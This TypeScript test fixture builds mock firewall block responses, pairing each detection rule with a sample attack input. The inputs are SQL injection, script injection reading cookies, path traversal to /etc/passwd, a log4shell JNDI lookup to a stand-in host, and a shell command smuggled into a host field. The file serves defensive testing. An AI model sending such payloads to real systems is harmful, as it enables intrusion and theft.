import { SCANNER } from './agents.ts';

/** What the edge's managed rules say of an attack, as a line of an import has it. */
export interface Refusal {
  action: 'block';
  reason: 'rule';
  modsec_rule_id: number;
  modsec_message: string;
  inbound_score: number;
  matches: object[];
}

interface FiredRule {
  rule: number;
  message: string;
  family: string;
  score: number;
  /** Where it fired, what stands there, and which part of that it named. */
  at: string;
  value: string;
  found: string;
}

/** The rule that fires first for each attack; a test compares with the rules themselves. */
export const FIRED = {
  sqlTautology: {
    rule: 1001,
    message: 'SQL injection: input parses as part of a statement',
    family: 'sql-injection',
    score: 10,
    at: 'ARGS:q',
    value: "' OR 1=1--",
    found: "' OR 1=1",
  },
  sqlUnion: {
    rule: 1002,
    message: 'SQL injection: statement keywords in input',
    family: 'sql-injection',
    score: 5,
    at: 'ARGS:id',
    value: '7 UNION SELECT username,password FROM users',
    found: 'UNION SELECT username,',
  },
  scriptTag: {
    rule: 2001,
    message: 'XSS: markup that runs a script',
    family: 'xss',
    score: 5,
    at: 'ARGS:q',
    value: '<script>alert(document.cookie)</script>',
    found: '<script>alert',
  },
  pathTraversal: {
    rule: 3001,
    message: 'Path traversal: climbs out of a directory',
    family: 'path-traversal',
    score: 5,
    at: 'ARGS:file',
    value: '../../../../etc/passwd',
    found: '../../../../',
  },
  jndiLookup: {
    rule: 6001,
    message: 'Java lookup: a log message that would make the server load code (log4shell)',
    family: 'java-lookup',
    score: 5,
    at: 'ARGS:coupon',
    value: '\x24{jndi:ldap://x.example/a}',
    found: '\x24{jndi:ldap://x.example/a}',
  },
  shellCommand: {
    rule: 4002,
    message: 'Command execution: shell separator and a command with its arguments',
    family: 'command-execution',
    score: 5,
    at: 'ARGS:host',
    value: '127.0.0.1;cat /etc/passwd',
    found: '127.0.0.1;cat /e',
  },
  embeddedScript: {
    rule: 2001,
    message: 'XSS: markup that runs a script',
    family: 'xss',
    score: 5,
    at: 'ARGS:text',
    value: '<p>See for yourself:</p><script async src="https://video.example/embed.js"></script>',
    found: '></script>',
  },
  scanner: {
    rule: 16_001,
    message: 'Bad bot: a scanner for weak places, by its own name',
    family: 'bot',
    score: 5,
    at: 'REQUEST_HEADERS:user-agent',
    value: SCANNER,
    found: 'Nuclei',
  },
} as const satisfies Record<string, FiredRule>;
export type RefusalName = keyof typeof FIRED;

/** The rule that compares the score, and the score from which on it refuses at medium. */
export const EVALUATION = { rule: 9001, threshold: 5 } as const;

export function refusal(name: RefusalName): Refusal {
  const { rule, message, family, score, at, value, found } = FIRED[name];
  const verdict = `Request blocked: anomaly score ${score} of ${EVALUATION.threshold}`;
  return {
    action: 'block',
    reason: 'rule',
    modsec_rule_id: EVALUATION.rule,
    modsec_message: verdict,
    inbound_score: score,
    matches: [
      {
        rule_id: rule,
        phase: 2,
        message,
        severity: 'CRITICAL',
        score,
        tags: [`family/${family}`, 'paranoia-level/1'],
        data: `${found} in ${at}`,
        targets: [
          {
            name: at,
            value,
            transformed: value,
            match_offset: value.indexOf(found),
            match_length: found.length,
          },
        ],
      },
      { rule_id: EVALUATION.rule, phase: 2, message: verdict, severity: 'CRITICAL', tags: ['evaluation'] },
    ],
  };
}
